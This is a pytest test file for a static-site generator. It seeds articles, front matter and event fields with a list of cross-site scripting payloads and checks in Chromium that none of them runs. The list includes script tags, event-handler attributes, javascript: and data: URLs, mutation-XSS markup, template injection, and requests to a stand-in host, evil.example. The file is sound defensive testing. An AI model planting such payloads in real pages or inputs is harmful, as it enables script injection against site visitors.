"""Hostile content never runs: payloads in article text, front matter, titles and summaries.

The site is built through the real pipeline (``extract`` on hostile articles, then hand-added
hostile events), every page is opened in Chromium, and the test asserts that no dialog opens,
no injected script runs, no request leaves the site, and no injected markup survives.
"""

from __future__ import annotations

import functools
import shutil

import pytest
import yaml

from chronology.cli import main

REPO_MARK = "__pwned"
PAYLOADS = [
    f"<script>window.{REPO_MARK}=1;alert(1)</script>",
    f'<img src=x onerror="window.{REPO_MARK}=1;alert(1)">',
    f'<svg onload="window.{REPO_MARK}=1"><script>alert(2)</script></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(3)>",
    '"><script>alert(4)</script><a x="',
    "'><img src=x onerror=alert(5)>",
    "[click me](javascript:alert(6))",
    "[click me](JaVaScRiPt:alert(7))",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg4KTwvc2NyaXB0Pg==)",
    '<a href="javascript:alert(9)">link</a>',
    '<iframe src="javascript:alert(10)"></iframe>',
    '<object data="javascript:alert(11)"></object>',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(12)">',
    "<style>@import 'http://evil.example/x.css';</style>",
    "![tracker](http://evil.example/pixel.png)",
    '<form action="http://evil.example/"><button>go</button></form>',
    "{{ 7*7 }} {% raw %}",
    '<details open ontoggle="alert(13)">',
    '<video><source onerror="alert(14)"></video>',
]
JOINED = " ".join(PAYLOADS)


def _hostile_articles(folder) -> None:
    folder.mkdir(parents=True)
    front = (
        "---\n"
        f"title: {yaml.safe_dump(JOINED, width=10**6).strip()}\n"
        f"publisher: {yaml.safe_dump('<script>alert(20)</script>', width=10**6).strip()}\n"
        "url: \"https://example.org/story?a=1&b=<2>\"\n"
        "published: 2016-03-01\n"
        "---\n"
    )
    body = (
        "TEHRAN, March 1 (Xinhua) -- Iranian and Russian officials signed a military cooperation "
        f"agreement on Monday {PAYLOADS[0]} in Tehran, the Iranian defence ministry said.\n\n"
        f"Russia and Iran held naval drills on Tuesday {PAYLOADS[1]} {PAYLOADS[6]}, it said.\n"
    )
    (folder / "hostile_front.md").write_text(front + body, encoding="utf-8")
    (folder / "hostile_text.txt").write_text(
        f"{PAYLOADS[2]} Iran, Russia sign deal\n\n" + body.replace("March 1", "March 2"),
        encoding="utf-8")


def _hostile_events(count: int) -> list[dict]:
    events = []
    for i, payload in enumerate(PAYLOADS[:count]):
        events.append({
            "id": f"2016-04-{i + 1:02d}-hostile-{i}",
            "date": f"2016-04-{i + 1:02d}",
            "title": payload,
            "summary": f"Summary {payload} and **bold** {PAYLOADS[(i + 7) % len(PAYLOADS)]}",
            "tags": [payload[:40]],
            "actors": [payload[:30]],
            "places": [payload[-30:]],
        })
    return events


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory, request):
    root = tmp_path_factory.mktemp("hostile")
    content = root / "content"
    _hostile_articles(content / "articles")
    repo = request.config.rootpath
    shutil.copy(repo / "content" / "site.yaml", content / "site.yaml")
    events_path = content / "events.yaml"
    code = main(["extract", str(content / "articles"), "-o", str(events_path),
                 "--site", str(content / "site.yaml"), "--jobs", "1"])
    assert code == 0
    data = yaml.safe_load(events_path.read_text(encoding="utf-8"))
    assert data["events"], "the hostile articles must still give events"
    data["events"] += _hostile_events(len(PAYLOADS))
    # front matter refuses a javascript: URL; a hand-edited events file can still hold one
    data["articles"]["hostile_front"]["url"] = "javascript:alert(21)"
    events_path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    assert main(["build", "--content", str(content), "-o", str(root / "build")]) == 0
    return root / "build"


def _record_dialog(seen: list[str], dialog) -> None:
    seen.append(dialog.message)
    dialog.dismiss()


def test_no_payload_runs_in_any_page(hostile_site, open_page):
    pages = sorted(hostile_site.rglob("*.html"))
    assert len(pages) >= 2
    for path in pages:
        dialogs: list[str] = []
        page = open_page(path.as_uri())
        # Listen before anything runs: reload with the dialog handler attached.
        page.on("dialog", functools.partial(_record_dialog, dialogs))
        page.reload(wait_until="load")
        page.evaluate("() => document.querySelectorAll('details').forEach(d => d.open = true)")
        page.wait_for_timeout(100)
        assert dialogs == [], path.name
        assert page.evaluate(f"() => window.{REPO_MARK} === undefined"), path.name
        injected = page.evaluate("""() => ({
            scripts: [...document.scripts].filter(s => !s.src || !s.src.includes('/assets/')).length,
            handlers: [...document.querySelectorAll('*')].flatMap(
                el => [...el.attributes].filter(a => a.name.startsWith('on'))).length,
            badLinks: [...document.querySelectorAll('[href],[src],[action],[data]')].filter(el => {
                const v = (el.getAttribute('href') || el.getAttribute('src') ||
                           el.getAttribute('action') || el.getAttribute('data') || '').trim();
                return /^(javascript|data|vbscript):/i.test(v) || /evil\\.example/.test(v);
            }).length,
            frames: document.querySelectorAll('iframe,object,embed,base,meta[http-equiv]').length,
        })""")
        inline_ok = page.evaluate(
            "() => [...document.scripts].filter(s => !s.src).every(s => !s.textContent.includes('alert'))")
        assert inline_ok, path.name
        assert injected["handlers"] == 0, path.name
        assert injected["badLinks"] == 0, path.name
        assert injected["frames"] == 0, path.name


def test_payloads_are_shown_as_text(hostile_site, open_page):
    page = open_page((hostile_site / "index.html").as_uri())
    text = page.inner_text("body")
    assert "<script>" in text  # shown literally, escaped, not executed
    assert "{{ 7*7 }}" in text  # no template injection
